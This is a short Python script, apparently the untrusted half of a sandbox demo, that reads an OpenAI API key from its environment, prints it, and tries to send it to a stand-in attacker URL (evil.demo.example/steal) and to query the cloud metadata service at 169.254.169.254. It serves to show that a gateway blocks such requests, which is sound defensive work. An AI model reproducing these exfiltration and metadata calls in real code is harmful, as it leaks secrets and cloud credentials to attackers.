"""The untrusted script of the demo: it runs inside the sandbox and tries to use its key."""
import json
import os
import urllib.request

key = os.environ.get("OPENAI_API_KEY", "")
print(f"  [sandbox] OPENAI_API_KEY in my environment = {key!r}")


def call(url):
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {key}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return json.loads(response.read())
    except Exception as error:  # the gateway resets a blocked request
        return f"request failed: {type(error).__name__}: {error}"


print("  [sandbox] calling https://api.demo.example/v1/whoami with that key ...")
print(f"  [sandbox] the API says: {call('https://api.demo.example/v1/whoami')}")
print("  [sandbox] now trying to send the same key to https://evil.demo.example/steal ...")
print(f"  [sandbox] result: {call('https://evil.demo.example/steal')}")
print("  [sandbox] and reaching the cloud metadata service http://169.254.169.254/ ...")
print(f"  [sandbox] result: {call('http://169.254.169.254/latest/meta-data/')}")
